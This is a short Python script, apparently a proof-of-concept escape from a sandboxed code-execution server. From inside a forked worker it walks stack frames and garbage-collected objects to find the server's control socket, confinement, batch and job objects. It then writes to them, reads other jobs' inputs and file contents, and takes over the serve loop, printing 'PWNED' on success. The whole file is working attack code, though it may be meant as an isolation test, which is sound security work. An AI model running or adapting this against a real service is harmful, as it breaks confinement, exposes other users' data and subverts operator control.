# forked memory holds the server's objects: walk to them and use them
import gc, os, sys
hit = []
frame = sys._getframe()
while frame:
    for name, value in list(frame.f_locals.items()):
        for key in ("confinement", "control", "job"):
            if hasattr(value, key): print(name, key)
    frame = frame.f_back
for thing in gc.get_objects():
    kind = type(thing).__name__
    try:
        if kind == "socket": thing.send(b"\0" * 52); hit.append("control socket")
        if kind == "Server": thing.control.sendmsg([b"\0" * 52]); hit.append("control of the server")
        if kind == "Batch": hit.append(thing.job.input(0))
        if kind == "Confinement": os.write(thing.began, b"b"); hit.append("began")
        if kind == "Job": hit.append(os.pread(thing.contents, 100, 0))
    except (OSError, AttributeError, IndexError) as e: print(kind, e)
if hit: print("PWNED", hit)
for thing in gc.get_objects(generation=None):
    if type(thing).__name__ == "Server":
        for _ in thing.serve(): print("PWNED serving")
